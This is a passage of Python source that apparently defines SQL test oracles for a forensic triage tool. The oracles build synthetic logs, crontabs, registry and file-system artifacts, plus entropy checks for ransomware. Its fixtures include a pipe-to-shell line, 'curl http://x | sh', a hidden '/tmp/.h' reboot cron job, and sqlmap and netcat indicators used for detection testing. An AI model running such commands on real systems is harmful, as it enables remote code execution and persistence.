O["overview_counts"] = f"{cte('files', 'events', 'registry')} SELECT 'files' AS metric, count(*) AS n FROM a_files UNION ALL SELECT 'deleted', count(*) FROM a_files WHERE is_deleted UNION ALL SELECT 'timeline_events', count(*) FROM a_events UNION ALL SELECT 'log_events', count(*) FROM a_events UNION ALL SELECT 'registry_values', count(*) FROM a_registry UNION ALL SELECT 'findings', count(*) FROM ({F}) z UNION ALL SELECT 'severity_' || severity, count(*) FROM ({F}) z GROUP BY severity"
O["finding_export_rows"] = f"WITH h AS (SELECT DISTINCT 'host-' || (user_id % 6) host_id, 'Host ' || (user_id % 6) n FROM events) SELECT strftime(make_timestamp(ts_us), '%Y-%m-%dT%H:%M:%SZ') AS timestamp_iso, 'Critical' AS severity, 'Actions on Objectives' AS phase, attack_id, 'Indicator Removal: Clear Windows Event Logs' AS attack_name, title, n AS host FROM ({d.ORACLES['log_cleared']}) z JOIN h USING (host_id)"
O["timeline_export_rows"] = f"{cte('shell_history', 'hosts')} SELECT strftime(timestamp, '%Y-%m-%dT%H:%M:%SZ') AS timestamp_iso, 'SHELL' AS source, 'C' AS macb, '' AS event_id, \"user\" || '$ ' || command AS path, CAST(0 AS BIGINT) AS size, 'false' AS deleted, display_name AS host FROM a_shell_history JOIN a_hosts USING (host_id) WHERE timestamp IS NOT NULL"
IDS = lambda c: f"CASE WHEN lower({c}) = 'svc1' THEN 100 WHEN starts_with(lower({c}), 'svc1') THEN 70 WHEN contains(lower({c}), 'svc1') THEN 50 END"
O["search"] = f"""{cte('files', 'events', 'registry')}, h AS (SELECT 'file' kind, coalesce({IDS('name')}, CASE WHEN contains({LF}, 'svc1') THEN 20 END) + 1 s FROM a_files
 UNION ALL SELECT 'event', coalesce(greatest({IDS('channel')}, {IDS('provider')}, {IDS('CAST(event_id AS VARCHAR)')}), CASE WHEN contains(lower(payload_xml), 'svc1') OR contains(lower(computer), 'svc1') THEN 20 END) + 3 FROM a_events
 UNION ALL SELECT 'registry', coalesce({IDS('name')}, CASE WHEN contains(lower({tlo.KEYS}), 'svc1') OR contains(lower(data), 'svc1') OR contains(lower(hive), 'svc1') THEN 20 END) + 4 FROM a_registry
 UNION ALL SELECT 'timeline', coalesce({IDS("regexp_extract(channel, '([^/]+)/*$', 1)")}, 20) + 2 FROM a_events WHERE contains(lower(channel), 'svc1')) SELECT kind, CAST(s AS INT) AS score, count(*) AS n FROM h WHERE s IS NOT NULL GROUP BY 1, 2"""
O["annotation_upsert"] = f"WITH a AS ({CONVERSATION_NOTES}), o AS (SELECT *, struct_pack(a := modified_at, b := created_at, c := note) k FROM a) SELECT target_key, arg_max(struct_pack(t := tag), k).t AS tag, coalesce(arg_max(author, CASE WHEN author <> '' THEN k END), '') AS author, CAST(length(arg_max(note, k)) AS INT) AS note_len, min(title) AS title FROM o GROUP BY target_key"
O["annotation_bookmarks"] = f"SELECT target_key, tag FROM ({CONVERSATION_NOTES}) a WHERE turn = 0 AND tag = 'benign'"


def tree(table: str, path: str, sep: str, key: str, leaf: str, extra: str) -> str:
    return f"{cte(table)}, p AS (SELECT *, list_filter(split({path}, '{sep}'), lambda x: x <> '') parts FROM a_{table}), e AS (SELECT *, unnest(range(1, len(parts) + 1)) lvl FROM p) SELECT host_id, {key}, '{sep}' || array_to_string(parts[1:lvl], '{sep}') AS path, {extra.format(leaf=leaf)} FROM e GROUP BY host_id, 2, 3, lvl"


O["file_tree"] = tree("files", FP, "/", "CAST(fs_id AS VARCHAR) AS volume", "NOT is_directory", "CAST(lvl AS INT) AS depth, count(*) FILTER ({leaf}) AS files, count(*) FILTER (NOT ({leaf})) AS folders, CAST(sum(size) AS BIGINT) AS bytes, epoch_us(max(modified)) AS last_us")
O["registry_tree"] = tree("registry", "path", "\\", "hive", "true", "CAST(lvl AS INT) AS depth, count(*) AS files, epoch_us(max(last_written)) AS last_us")
O["mft_tree"] = tree("mft", "coalesce(full_path, file_name)", "\\", "volume", "NOT is_directory", "count(*) FILTER ({leaf}) AS files, count(*) FILTER (NOT ({leaf})) AS folders, CAST(sum(size) AS BIGINT) AS bytes").replace("FROM a_mft)", "FROM a_mft WHERE file_name IS NOT NULL)")
O["volume_layer"] = f"{cte('files', 'volumes')} SELECT f.host_id, f.fs_id, coalesce(min(v.fs_type), 'Volume ' || f.fs_id) AS label, count(DISTINCT (f.id, f.name, f.parent_path, f.rn)) AS n FROM (SELECT *, row_number() OVER () rn FROM a_files) f LEFT JOIN a_volumes v ON v.host_id = f.host_id AND v.id = f.fs_id GROUP BY 1, 2"
O["file_leaves"] = f"{cte('files')} SELECT host_id, {FP} || '#' || id AS node, name, size, is_deleted FROM a_files WHERE NOT is_directory"
ENC = d.ORACLES["mass_encryption"]
O["encryption_bursts"] = f"SELECT host_id, regexp_extract(title, '''\\.(.*)''$', 1) AS ext, CAST(regexp_extract(title, 'encryption: ([0-9]+) ', 1) AS BIGINT) AS n FROM ({ENC}) z"
O["entropy_candidates"] = f"{cte('files')} SELECT host_id, ext, count(*) AS n FROM (SELECT host_id, {EXT.format('name')} ext FROM a_files WHERE NOT is_directory AND NOT is_deleted AND size >= 512 AND NOT ends_with(name, '-slack')) f WHERE (host_id, ext) IN (SELECT (host_id, regexp_extract(title, '''\\.(.*)''$', 1)) FROM ({ENC}) z) GROUP BY 1, 2"
O["entropy_statistics"] = "SELECT source AS host_id, lang AS ext, count(*) AS sampled, count(*) FILTER ((n_chars % 80) / 10.0 >= 7.5) AS high, round(avg((n_chars % 80) / 10.0), 6) AS mean_entropy, CAST(max((n_chars % 80) / 10.0) AS DOUBLE) AS max_entropy FROM documents GROUP BY 1, 2"
BURST_EXT = r"regexp_extract(title, '''\.(.*)''$', 1)"
LIVE = f"SELECT host_id, id, {EXT.format('name')} ext FROM a_files WHERE NOT is_directory AND NOT is_deleted AND size >= 512 AND NOT ends_with(name, '-slack')"
BURST_STATS = f"""files_read AS (SELECT f.host_id, f.ext, f.id, CASE WHEN f.id % 2 = 0 THEN hex(encode(text)) ELSE array_to_string(list_transform(range(64), lambda i: sha256(text || i)), '') END AS x FROM ({LIVE}) f JOIN documents ON doc_id = f.id // 8
  WHERE (f.host_id, f.ext) IN (SELECT (host_id, {BURST_EXT}) FROM ({ENC}) z)),
 windows_read AS (SELECT host_id, ext, id, k, CASE k WHEN 0 THEN substr(x, 1, 131072) WHEN 1 THEN substr(x, 2 * (length(x) // 4 - 32768) + 1, 131072) ELSE substr(x, length(x) - 131072 + 1, 131072) END AS b FROM files_read, unnest([0, 1, 2]) AS t(k) WHERE k = 0 OR length(x) > 262144),
 bytes_read AS (SELECT host_id, ext, id, k, substr(b, 2 * i + 1, 2) AS v, count(*) AS c FROM windows_read, unnest(range(length(b) // 2)) AS u(i) WHERE length(b) >= 1024 GROUP BY ALL),
 shares AS (SELECT host_id, ext, id, k, c / sum(c) OVER (PARTITION BY host_id, ext, id, k) AS p FROM bytes_read),
 measured AS (SELECT host_id, ext, id, max(h) AS h FROM (SELECT host_id, ext, id, k, -sum(p * log2(p)) + 0.0 AS h FROM shares GROUP BY ALL) GROUP BY ALL),
 stats AS (SELECT host_id, ext, count(*) AS sampled, count(*) FILTER (h >= 7.5) AS high, avg(h) AS mean_entropy, max(h) AS max_entropy FROM measured GROUP BY 1, 2)"""
O["entropy_of_bursts"] = f"{cte('files')}, {BURST_STATS} SELECT host_id, ext, sampled, high, round(mean_entropy, 6) AS mean_entropy, round(max_entropy, 6) AS max_entropy FROM stats"
O["mass_encryption_verdict"] = f"""{cte('files')}, {BURST_STATS}, bursts AS (SELECT *, {BURST_EXT} AS ext FROM ({ENC}) z)
 SELECT host_id, title, CASE WHEN sampled IS NULL THEN detail ELSE replace(detail, 'The contents were not at hand, so nothing is said about encryption.', CASE WHEN high > 0 THEN high || ' of ' || sampled || ' files read look encrypted, the densest with ' || printf('%.2f', max_entropy) || ' bits a byte.'
  ELSE 'None of ' || sampled || ' files read looks encrypted; ' || printf('%.2f', mean_entropy) || ' bits a byte on average.' END) END AS detail FROM bursts LEFT JOIN stats USING (host_id, ext)"""
O["scan_candidates"] = f"{cte('files')} SELECT host_id, id, name, size FROM a_files WHERE NOT is_directory AND NOT is_deleted AND NOT ends_with(name, '-slack') AND size BETWEEN 1 AND 3000"
O["fn_rot13"] = f"SELECT p_partkey, {d.ROT.format('p_name')} AS turned FROM part"
O["fn_mask_labels"] = f"{cte('usn')} SELECT usn, {tlo.masks('reason_raw', USN_REASONS)} AS labels FROM a_usn"
O["fn_human"] = f"{cte('srum')} SELECT DISTINCT bytes_written, {tlo.hbytes('bytes_written')} AS size, connected_seconds, {tlo.DUR} AS duration FROM a_srum"
O["fn_filetime"] = f"{cte('mft')} SELECT record_number, CASE WHEN si_created_raw > 0 THEN si_created_raw // 10 - 11644473600000000 END AS us, si_created_raw > 0 AND si_created_raw % 10000000 = 0 AS whole FROM a_mft"
O["fn_extension"] = f"{cte('files')} SELECT id, {EXT.format('name')} AS ext, {BASE.format('parent_path')} AS base FROM a_files"
O["fn_url_host"] = f"SELECT page_id, {d.HOST.format('url')} AS host FROM pages"
O["fn_payload_field"] = f"{cte('events')} SELECT record_number, {fld('CommandLine')} AS command FROM a_events"
O["fn_csv_record"] = "SELECT p_partkey, '\"''=,' || p_name || '\",' || p_brand AS line FROM part"
O["event_filter"] = f"{cte('events')} SELECT record_number FROM a_events WHERE level IN (0, 4) AND (contains(lower(channel), '40') OR contains(lower(provider), '40') OR contains(CAST(event_id AS VARCHAR), '40') OR contains(lower(computer), '40'))"
O["quick_filter_web"] = f"{cte('web_access')} SELECT host_id, client_ip, path, status FROM a_web_access WHERE status >= 400 AND (contains(lower(path || coalesce('?' || query, '')), 'sqlmap') OR contains(lower(user_agent), 'sqlmap'))"
O["quick_filter_usn"] = f"{cte('usn')} SELECT usn FROM a_usn WHERE (reason_raw & 13056) <> 0 AND (contains(lower(file_name), 'rename') OR (reason_raw & 12288) <> 0)"
O["quick_filter_mft"] = f"{cte('mft')} SELECT record_number FROM a_mft WHERE si_created_raw <> 0 AND fn_created_raw - si_created_raw > 10000000 AND (contains(lower(full_path), 'drop') OR contains(lower(file_name), 'drop'))"
O["quick_filter_journal"] = f"{cte('journald')} SELECT host_id, message FROM a_journald WHERE priority <= 3 AND (contains(lower(message), 'ssh') OR contains(coalesce(identifier, comm), 'ssh') OR contains(coalesce(unit, ''), 'ssh'))"
O["registry_search"] = f"{cte('registry')} SELECT host_id, name, data FROM a_registry WHERE contains(lower(name), 'evil') OR contains(lower(path), 'evil') OR contains(lower(data), 'evil')"
O["registry_decode"] = f"{cte('files')} SELECT DISTINCT size, size || ' (0x' || upper(to_hex(size)) || ')' AS number, trim(regexp_replace(CAST(size AS VARCHAR), '(..)', '\\1 ', 'g')) AS bytes FROM a_files"
TUS = f"epoch_us({STAMP})"
M6 = "event_id % 6"
O["scan_auth_log"] = f"""SELECT {H} AS host_id, 'srv1' AS host, {arms(6, [q('sshd'), q('sshd'), q('sudo'), q('useradd'), q('cron'), 'NULL'])} AS process, CAST({arms(6, ['event_id', '7', 'NULL', '9', '3', 'NULL'])} AS BIGINT) AS pid, {arms(6, [q('sshAccepted'), q('sshFailed'), q('sudo'), q('userAdded'), q('sessionOpened'), 'NULL'])} AS kind,
 {arms(6, ["'user' || user_id", "'bad' || (event_id % 5)", q('alice'), q('mallory'), q('root'), 'NULL'])} AS "user", {arms(6, ["'10.0.0.' || (event_id % 9)", "'203.0.113.' || (event_id % 9)", 'NULL', 'NULL', 'NULL', 'NULL'])} AS source_ip, CAST({arms(6, ['CAST(CONCAT(40, event_id % 10) AS BIGINT)', '22', 'NULL', 'NULL', 'NULL', 'NULL'])} AS BIGINT) AS port,
 CASE WHEN {M6} = 0 THEN 'publickey' END AS method, regexp_extract({arms(6, AUTH)}, '^[^:]*: (.*)$', 1) AS message, {TUS} AS timestamp_us FROM events WHERE {M6} < 5"""
O["scan_system_log"] = f"""SELECT {H} AS host_id, {arms(8, [q('CRON'), q('kernel'), q('systemd'), q('kernel'), q('su'), 'NULL', 'NULL', q('systemd')])} AS process, {arms(8, [q('cronExec'), q('massStorage'), q('crashLoop'), q('segfault'), q('suSession'), 'NULL', 'NULL', q('serviceStarted')])} AS category, regexp_extract({arms(8, SYS)}, '^[^:]*: (.*)$', 1) AS message,
 CASE event_id % 8 WHEN 0 THEN 'root' WHEN 4 THEN 'root' END AS "user", CASE event_id % 8 WHEN 0 THEN 'curl http://x | sh' END AS command, CASE event_id % 8 WHEN 2 THEN 'foo.service' WHEN 7 THEN 'bar.timer' END AS unit, {TUS} AS timestamp_us FROM events WHERE event_id % 8 NOT IN (5, 6)"""
O["scan_sudo_log"] = f"SELECT {H} AS host_id, 'user' || user_id AS \"user\", {arms(3, [q('/bin/cat x=y'), q('/bin/su'), 'NULL'])} AS command, {arms(3, [q('USER=root ; PWD=/home ; TTY=pts/0 ; COMMAND=/bin/cat x=y'), q('3 incorrect password attempts ; USER=root ; TTY=pts/1 ; COMMAND=/bin/su'), q('USER=bob')])} AS message, {TUS} AS timestamp_us FROM events"
O["scan_web_log"] = f"SELECT {H} AS host_id, '203.0.113.' || (event_id % 9) AS client_ip, 'GET' AS method, '/p' || (event_id % 7) AS path, CASE WHEN event_id % 2 = 0 THEN 'id=' || event_id END AS query, 'HTTP/1.1' AS http_version, CAST(200 + event_id % 5 AS INT) AS status, CASE WHEN event_id % 3 = 0 THEN 0 ELSE event_id END AS bytes, CAST(NULL AS VARCHAR) AS referer, CASE WHEN event_id % 4 > 0 THEN 'Mozilla/5.0 (X11)' END AS user_agent, {TUS} AS timestamp_us FROM events"
O["scan_app_server_log"] = f"""WITH l AS (SELECT *, {H} hid, CASE WHEN event_id % 3 = 0 THEN -1 ELSE CAST(200 + event_id % 300 AS INT) END code FROM events WHERE event_id % 3 <> 1), w AS (SELECT *, lead(code) OVER (PARTITION BY hid ORDER BY event_id) nx FROM l)
 SELECT hid AS host_id, '203.0.113.' || (event_id % 9) AS client_ip, 'GET' AS method, '/t' || event_id AS path, 'a=1' AS query, CAST(CASE WHEN nx >= 0 THEN nx ELSE 0 END AS INT) AS status, {TUS} AS timestamp_us FROM w WHERE code = -1"""
O["scan_shell_history"] = f"""WITH l AS (SELECT *, {H} hid, CASE WHEN event_id % 3 = 0 THEN 's' WHEN event_id % 7 = 5 THEN 'b' ELSE 'c' END t, row_number() OVER (PARTITION BY {H} ORDER BY event_id) n FROM events), k AS (SELECT *, lag(t) OVER (PARTITION BY hid ORDER BY event_id) p, lag(event_id) OVER (PARTITION BY hid ORDER BY event_id) pe FROM l WHERE t <> 'b')
 SELECT hid AS host_id, 'user' || (user_id % 6) AS "user", 'bash' AS shell, 'cmd ' || event_id AS command, n AS line_number, CASE WHEN p = 's' THEN (1700000000 + pe) * 1000000 END AS timestamp_us FROM k WHERE t = 'c'"""
O["scan_audit_log"] = f"SELECT {H} AS host_id, event_id AS serial, CASE WHEN event_id % 2 = 0 THEN 'EXECVE' ELSE 'SYSCALL' END AS record_type, CASE WHEN event_id % 2 = 0 THEN 'execve' ELSE 'openat' END AS syscall, true AS success, '/usr/bin/x' || (event_id % 9) AS exe, CASE WHEN event_id % 2 = 0 THEN 'ls -la f' || event_id END AS command_line, '/root/n' || (event_id % 5) AS path, CASE WHEN event_id % 3 > 0 THEN CAST(1000 AS BIGINT) END AS auid, CAST(0 AS BIGINT) AS uid, CAST(NULL AS VARCHAR) AS key, (1700000000 + event_id) * 1000000 + 500000 AS timestamp_us FROM events"
O["scan_audit_by_serial"] = O["scan_audit_log"]
O["scan_dpkg_log"] = f"SELECT {H} AS host_id, {arms(4, [q('install'), 'NULL', q('remove'), q('upgrade')])} AS action, {arms(4, [q('nmap'), 'NULL', q('curl'), q('bash')])} AS package, {arms(4, [q('7.9'), 'NULL', 'NULL', q('5.1')])} AS version, 'dpkg' AS manager, {TUS} AS timestamp_us FROM events WHERE event_id % 4 <> 1"
O["scan_apt_history"] = f"""WITH l AS (SELECT *, {H} hid, last_value(CASE WHEN event_id % 4 IN (0, 3) THEN event_id END IGNORE NULLS) OVER (PARTITION BY {H} ORDER BY event_id ROWS UNBOUNDED PRECEDING) m FROM events), j AS (SELECT l.*, CASE WHEN l.m % 4 = 0 THEN epoch_us({STAMP.replace('event_id', 's.event_id').replace('user_id', 's.user_id')}) END us FROM l LEFT JOIN events s ON s.event_id = l.m)
 SELECT hid AS host_id, 'install' AS action, 'nmap' AS package, '7.' || event_id AS version, us AS timestamp_us FROM j WHERE event_id % 4 = 1 UNION ALL SELECT hid, 'install', 'vim', '8.1', us FROM j WHERE event_id % 4 = 1 UNION ALL SELECT hid, 'remove', 'gcc', '9.3', us FROM j WHERE event_id % 4 = 2"""
O["scan_yum_log"] = f"SELECT {H} AS host_id, {arms(3, [q('install'), q('remove'), 'NULL'])} AS action, {arms(3, [q('nmap-ncat'), q('telnet'), 'NULL'])} AS package, {arms(3, [q('7.70-5.el8'), 'NULL', 'NULL'])} AS version, {TUS} AS timestamp_us FROM events WHERE event_id % 3 < 2"
CR = f"SELECT {H} AS host_id, CASE WHEN event_id % 4 = 0 THEN '17 * * * *' ELSE '@reboot' END AS schedule, 'root' AS \"user\", CASE WHEN event_id % 4 = 0 THEN 'cd / && run' ELSE '/tmp/.h/b.sh -x' END AS command FROM events WHERE event_id % 4 < 2"
O["scan_crontab"] = CR
O["scan_mac_crontab"] = CR
O["scan_passwd"] = f"SELECT {H} AS host_id, 'user' || event_id AS name, event_id AS uid, CAST(100 AS BIGINT) AS gid, '/home/u' AS home, CASE WHEN event_id % 2 = 0 THEN '/bin/bash' ELSE '/bin/false' END AS shell FROM events"
O["scan_group"] = f"SELECT {H} AS host_id, 'grp' || event_id AS name, event_id % 99 AS gid, CASE WHEN event_id % 2 = 0 THEN '' ELSE 'a,b' || user_id END AS members FROM events"
O["scan_shadow"] = f"SELECT host_id, account, arg_max(s, e) AS status FROM (SELECT {H} AS host_id, 'acct' || (event_id % 40) AS account, {arms(5, [q('empty'), q('noLogin'), q('noLogin'), q('locked'), q('usable')])} s, event_id e FROM events) z GROUP BY 1, 2"
O["scan_sudoers"] = f"SELECT {H} AS host_id, {arms(4, [q('alice'), q('%admin'), 'NULL', q('bob')])} AS principal, {arms(4, [q('ALL'), q('root'), 'NULL', 'NULL'])} AS run_as, event_id % 4 <> 1 AS no_passwd, {arms(4, [q('ALL'), q('/usr/bin/ls'), 'NULL', q('/bin/x')])} AS command FROM events WHERE event_id % 4 <> 2"
O["scan_authorized_keys"] = f"SELECT {H} AS host_id, 'user' || (user_id % 6) AS \"user\", 'ssh-rsa' AS algorithm, 'user@h' || event_id AS comment, CASE WHEN event_id % 2 = 0 THEN 'command=\"/bin/a,b c\";no-pty' ELSE '' END AS options FROM events"
O["scan_lease_addresses"] = f"SELECT {H} AS host_id, event_id AS line_no, '10.0.0.' || (event_id % 250) AS ip FROM events WHERE event_id % 2 = 0"
O["scan_security_log"] = f"SELECT {H} AS host_id, {arms(4, [q('xprotect'), q('gatekeeper'), 'NULL', q('syspolicyd')])} AS kind, {arms(4, [q('detected'), q('blocked'), 'NULL', q('allowed')])} AS severity, {arms(4, [q('XProtect[3]: malware detected in /Users/a/x.app now'), q('Gatekeeper: blocked by policy'), 'NULL', q('syspolicyd: assessment passed')])} || ' n' || event_id AS message, CASE WHEN event_id % 4 = 0 THEN '/Users/a/x.app' END AS path, {TUS} AS timestamp_us FROM events WHERE event_id % 4 <> 2"
O["scan_bodyfile"] = f"SELECT {H} AS host_id, '/Users/a|b/f' || event_id AS path, CASE WHEN event_id % 3 = 0 THEN '/t' END AS symlink_target, event_id + 1 AS inode, event_id * 2 AS size, event_id % 3 = 2 AS is_directory, (1700000000 + event_id) * 1000000 + 250000 AS modified_us, CASE WHEN event_id % 2 = 1 THEN 1700000300000000 END AS created_us FROM events"
O["scan_bodyfile_files"] = f"SELECT host_id, regexp_extract(path, '([^/]+)/*$', 1) AS name, regexp_replace(regexp_replace(path, '/+$', ''), '[^/]+$', '') AS parent_path, inode AS meta_addr, CAST(3 AS BIGINT) AS fs_id, size, is_directory, modified_us FROM ({O['scan_bodyfile']}) b"
O["scan_routing"] = f"{cte('files')} SELECT host_id, id, art AS artifact FROM (SELECT *, CASE WHEN contains({LF}, '/var/log/') AND name = 'auth.log' THEN 'auth' WHEN contains({LF}, '/etc/cron.d/') THEN 'cron' END art FROM a_files WHERE NOT is_directory AND NOT is_deleted AND size > 0 AND NOT ends_with(name, '-slack')) z WHERE art IS NOT NULL"
AV = lambda n: f"min(CASE WHEN name = {q(n)} THEN trim(data) END)"
O["scan_amcache"] = rf"""{cte('registry')} SELECT host_id, coalesce(regexp_extract(fp, '([^\\/]+)$', 1), regexp_extract(path, '([^\\]+)$', 1)) AS name, fp AS full_path, sha AS sha1, sz AS size, CASE WHEN mod THEN 'inventoryApplicationFile' ELSE 'legacyFile' END AS source, epoch_us(ra) AS registered_at_us FROM
 (SELECT *, CASE WHEN regexp_matches(lower(fid), '^(0000)?[0-9a-f]{{40}}$') AND (length(fid) = 40 OR starts_with(fid, '0000')) THEN right(lower(fid), 40) END sha FROM (SELECT host_id, path, contains(lower(path), '\inventoryapplicationfile\') mod, coalesce({AV('LowerCaseLongPath')}, {AV('15')}) fp, coalesce({AV('FileId')}, {AV('101')}) fid, CASE WHEN {AV('Size')} IS NOT NULL THEN 8000 WHEN {AV('6')} IS NOT NULL THEN 4096 END::BIGINT sz, max(last_written) ra FROM a_registry WHERE hive = 'AMCACHE' GROUP BY 1, 2) a) b WHERE fp IS NOT NULL OR sha IS NOT NULL"""
O["scan_powerlog_clock"] = f"""WITH r AS (SELECT {H} h, event_id, CAST(epoch_us(ts) // 1000000 + event_id % 2 AS DOUBLE) raw FROM events), o AS (SELECT {H} h, CAST(epoch_us(ts) // 1000000 AS DOUBLE) t, CAST(max(event_id) % 100 AS DOUBLE) s FROM events WHERE event_type = 'error' GROUP BY 1, 2), f AS (SELECT h, arg_min(s, t) s0 FROM o GROUP BY h)
 SELECT r.h AS host_id, r.event_id, r.raw, CAST((r.raw + coalesce(o.s, f.s0, 0)) * 1000000 AS BIGINT) AS date_us FROM r ASOF LEFT JOIN o ON r.h = o.h AND r.raw >= o.t LEFT JOIN f ON f.h = r.h"""
O["scan_safari_history"] = "SELECT url, 't' || max(event_id) AS title, 'Safari' AS user_profile, (978307200 + max(event_id) * 10) * 1000000 AS timestamp_us FROM pages JOIN events ON event_id % 300 = page_id WHERE event_id > 0 GROUP BY page_id, url"
# Windows of 64 KiB: the head, and of contents over 128 KiB the middle and the tail; two hex digits a byte.
O["entropy_of_documents"] = """WITH d AS (SELECT doc_id, hex(encode(text)) AS x, octet_length(encode(text)) AS n FROM documents),
w AS (SELECT doc_id, k, CASE k WHEN 0 THEN substr(x, 1, 131072) WHEN 1 THEN substr(x, 2 * (n // 2 - 32768) + 1, 131072) ELSE substr(x, 2 * (n - 65536) + 1, 131072) END AS b
  FROM d, unnest([0, 1, 2]) AS t(k) WHERE k = 0 OR n > 131072),
c AS (SELECT doc_id, k, substr(b, 2 * i + 1, 2) AS v, count(*) AS c FROM w, unnest(range(length(b) // 2)) AS u(i) WHERE length(b) >= 1024 GROUP BY ALL),
p AS (SELECT doc_id, k, c / sum(c) OVER (PARTITION BY doc_id, k) AS p FROM c)
SELECT doc_id, round(max(h), 6) AS h FROM (SELECT doc_id, k, -sum(p * log2(p)) + 0.0 AS h FROM p GROUP BY doc_id, k) GROUP BY doc_id"""
# Every entity becomes one character; the ampersand comes last, so that no text is decoded twice.
O["fn_entities"] = """SELECT page_id, length(replace(regexp_replace(html, '&(lt|gt|quot|apos|#[0-9]{1,9}|#[xX][0-9A-Fa-f]{1,8});', 'x', 'g'), '&amp;', '&')) AS n FROM pages"""
O["scan_script"] = f"SELECT {H} AS host_id, '/opt/run' || event_id || ' --go' AS command FROM events WHERE event_id % 4 = 0"
O["scan_rc_scripts"] = f"SELECT {H} AS host_id, {arms(4, ["'/opt/run' || event_id || ' --go'", 'NULL', q('PATH=/usr/bin'), q('fi')])} AS command, 'file' AS name FROM events WHERE event_id % 4 <> 1"
O["scan_known_hosts"] = f"SELECT {H} AS host_id, 'user' || (user_id % 6) AS \"user\", 'h' || event_id || CASE WHEN event_id % 3 = 0 THEN '.example.com' ELSE '' END AS host, CASE WHEN event_id % 3 = 0 THEN 'ssh-ed25519' ELSE 'ssh-rsa' END AS algorithm FROM events WHERE event_id % 3 < 2"
SSHD = f"SELECT {H} AS host_id, event_id, {arms(4, [q('port'), q('permitrootlogin'), 'NULL', q('banner')])} AS key, {arms(4, ['CAST(event_id AS VARCHAR)', q('yes'), 'NULL', "'/etc/b' || event_id"])} AS value FROM events WHERE event_id % 4 <> 2"
O["scan_sshd_config"] = f"SELECT host_id, key, arg_max(value, event_id) AS value FROM ({SSHD}) z GROUP BY 1, 2"
O["scan_os_release"] = f"SELECT {H} AS host_id, 'Sys ' || max(event_id) FILTER (event_id % 4 = 0) AS pretty_name, 'sys' || max(event_id) FILTER (event_id % 4 = 1) AS os_id, '' || max(event_id) FILTER (event_id % 4 = 3) AS version_id FROM events GROUP BY 1"
O["scan_ld_preload"] = f"SELECT {H} AS host_id, '/lib/x' || event_id || '.so' AS command FROM events UNION ALL SELECT {H}, '/lib/y.so' FROM events WHERE event_id % 2 = 0"
O["scan_systemd_service"] = f"SELECT {H} AS host_id, 'u' || event_id AS \"user\", '/opt/run ' || event_id AS command, 'u' || event_id || '.service' AS unit_name, 'unit ' || event_id AS detail FROM events"
O["scan_systemd_timer"] = f"SELECT {H} AS host_id, 'daily, ' || event_id AS schedule, 'u' || event_id || '.service' AS command, 'u' || event_id || '.timer' AS unit_name, 'timer ' || event_id AS detail FROM events"
O["scan_autostart"] = f"SELECT {H} AS host_id, '/usr/bin/app ' || event_id AS command, 'u' || event_id || '.desktop' AS unit_name, 'app ' || event_id AS detail FROM events"
NOT_GIVEN = {("ssh_keys", "host"), ("recent_items", "scope"), ("kexts", "team_id"), ("network", "detail")}  # null in the adapters
O["quick_filter_tables"] = cte(*TEXT_COLUMNS) + " UNION ALL ".join(
    f" SELECT host_id, '{n}' AS name, count(*) AS n FROM a_{n} WHERE " + " OR ".join(f"contains(lower(coalesce({c if c != 'user' else chr(34) + c + chr(34)}, '')), 'a1')" for c in columns if (n, c) not in NOT_GIVEN) + " GROUP BY host_id" for n, columns in TEXT_COLUMNS.items()
)
